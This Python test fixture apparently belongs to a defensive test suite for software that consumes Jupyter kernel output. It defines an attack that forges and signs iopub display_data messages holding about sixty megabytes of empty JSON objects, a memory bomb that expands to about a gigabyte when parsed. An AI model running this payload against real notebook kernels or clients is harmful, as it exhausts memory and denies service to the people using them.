"""Emits a payload of sixty megabytes that is a gigabyte when it is read: lists of nothing"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    "harm",
    q2="""
import zmq
kernel = get_ipython().kernel
session, parent = kernel.session, get_ipython().parent_header
for _ in range(6):
    message = session.msg("display_data", {}, parent=parent)
    message["content"] = {}
    parts = session.serialize(message)
    parts[-1] = b'{"data": {"application/vnd.firstquery.payload+json": [' + b"{}," * 20_000_000 + b"{}]}, \\"metadata\\": {}}"
    parts[2 if parts[0].startswith(b"<IDS") else 1] = session.sign(parts[-4:])
    get_ipython().display_pub.pub_socket.send_multipart(parts) if hasattr(get_ipython().display_pub.pub_socket, "send_multipart") else kernel.iopub_thread.socket.send_multipart(parts)
""",
    is_bomb=True,
)
